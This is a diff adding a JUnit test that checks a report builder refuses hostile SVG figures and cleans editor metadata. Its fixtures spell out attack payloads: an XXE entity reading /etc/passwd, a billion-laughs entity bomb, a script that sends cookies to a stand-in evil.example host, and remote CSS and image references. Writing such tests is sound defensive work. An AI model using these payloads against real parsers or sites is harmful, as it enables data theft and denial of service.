@@ -1,0 +1,97 @@
+package org.imprint.chart;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.stream.Stream;
+import java.util.zip.ZipFile;
+
+import org.imprint.BuildRequest;
+import org.imprint.Imprint;
+import org.imprint.ReportException;
+import org.imprint.Reports;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+/**
+ * Hostile SVG figures are refused with the article's line, the file and the reason, before any
+ * output is written; nothing of them reaches an output, and nothing is fetched or expanded.
+ */
+class HostileSvgTest {
+
+    private static final String OPEN = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 100 50\">";
+
+    static Stream<Arguments> hostile() {
+        return Stream.of(
+                Arguments.of("external entity (XXE)", "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
+                        + OPEN + "<text y=\"20\">&xxe;</text></svg>", "declares a DTD or entities"),
+                Arguments.of("billion laughs", "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
+                        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
+                        + "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">"
+                        + "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]>\n"
+                        + OPEN + "<text y=\"20\">&h;</text></svg>", "declares a DTD or entities"),
+                Arguments.of("script", OPEN + "<script>fetch('https://evil.example/'+document.cookie)</script></svg>", "<script> element"),
+                Arguments.of("event handler", OPEN + "<rect width=\"10\" height=\"10\" onclick=\"alert(1)\"/></svg>", "event handler (onclick)"),
+                Arguments.of("file: image", OPEN + "<image xlink:href=\"file:///etc/passwd\" width=\"10\" height=\"10\"/></svg>", "refers to \"file:///etc/passwd\""),
+                Arguments.of("remote image", OPEN + "<image href=\"http://evil.example/track.png\" width=\"10\" height=\"10\"/></svg>", "refers to \"http://evil.example/track.png\""),
+                Arguments.of("remote use", OPEN + "<use href=\"https://evil.example/sprite.svg#a\"/></svg>", "refers to \"https://evil.example/sprite.svg#a\""),
+                Arguments.of("foreignObject", OPEN + "<foreignObject width=\"10\" height=\"10\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"http://evil.example/\"/></foreignObject></svg>", "<foreignObject> element"),
+                Arguments.of("CSS url()", OPEN + "<rect width=\"10\" height=\"10\" style=\"fill: url(http://evil.example/p.svg#g)\"/></svg>", "refers to \"http://evil.example/p.svg#g\""),
+                Arguments.of("CSS @import", OPEN + "<style>@import url(http://evil.example/x.css);</style></svg>", "@import"),
+                Arguments.of("deep nesting", OPEN + "<g>".repeat(200) + "</g>".repeat(200) + "</svg>", "nested more than 64 levels"),
+                Arguments.of("not SVG", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body/></html>", "not an SVG <svg> element"));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("hostile")
+    void isRefusedWithItsLineAndNothingIsWritten(String name, String svg, String why, @TempDir Path dir) throws Exception {
+        Path report = write(dir, svg);
+        Path out = dir.resolve("out");
+        ReportException e = assertThrows(ReportException.class,
+                () -> new Imprint(Reports.HOME).build(BuildRequest.of(report).out(out).build()));
+        String message = e.getMessage();
+        assertTrue(message.contains("article.md:12: SVG image \"figures/drawing.svg\" is refused: "), message);
+        assertTrue(message.contains(why), message);
+        assertFalse(message.contains("root:") || message.contains("lol"), "nothing of the file in the message: " + message);
+        assertTrue(message.lines().noneMatch(l -> l.strip().startsWith("at ")), "a stack trace: " + message);
+        try (Stream<Path> left = Files.exists(out) ? Files.list(out) : Stream.empty()) {
+            assertEquals(List.of(), left.filter(p -> !p.getFileName().toString().startsWith(".")).toList(), "outputs left behind");
+        }
+    }
+
+    @Test
+    void editorsLeftoversAreCleanedAndNothingLeaks(@TempDir Path dir) throws Exception {
+        String svg = "<?xml version=\"1.0\"?>\n<!-- secret: internal draft -->\n"
+                + "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:sodipodi=\"http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd\" "
+                + "width=\"200\" height=\"100\" sodipodi:docname=\"secret-name.svg\"><sodipodi:namedview pagecolor=\"#ffffff\"/>"
+                + "<metadata>author: secret person</metadata><?php echo 1; ?><rect width=\"100\" height=\"50\" fill=\"#7B1E2B\"/>"
+                + "<image href=\"data:image/png;base64,iVBORw0KGgo=\" width=\"1\" height=\"1\"/></svg>";
+        Path report = write(dir, svg);
+        Path out = dir.resolve("out");
+        List<Path> built = new Imprint(Reports.HOME).build(BuildRequest.of(report).out(out).formats("epub").build());
+        try (ZipFile zip = new ZipFile(built.get(0).toFile())) {
+            String kept = new String(zip.getInputStream(zip.getEntry("OEBPS/figures/drawing.svg")).readAllBytes(), StandardCharsets.UTF_8);
+            assertTrue(kept.contains("<rect"), kept);
+            assertFalse(kept.contains("secret") || kept.contains("sodipodi") || kept.contains("php"), kept);
+        }
+    }
+
+    private static Path write(Path dir, String svg) throws Exception {
+        Path report = dir.resolve("hostile-svg");
+        Files.createDirectories(report.resolve("figures"));
+        Files.writeString(report.resolve("figures/drawing.svg"), svg);
+        Files.writeString(report.resolve("article.md"), "---\ntitle: A Hostile Drawing\ndate: 2026-03-01\nauthors:\n"
+                + "  - name: Jane Doe\n---\n\nA paragraph before the figure.\n\nAnother paragraph.\n\n"
+                + "![A drawing.](figures/drawing.svg)\n");
+        return report;
+    }
+}
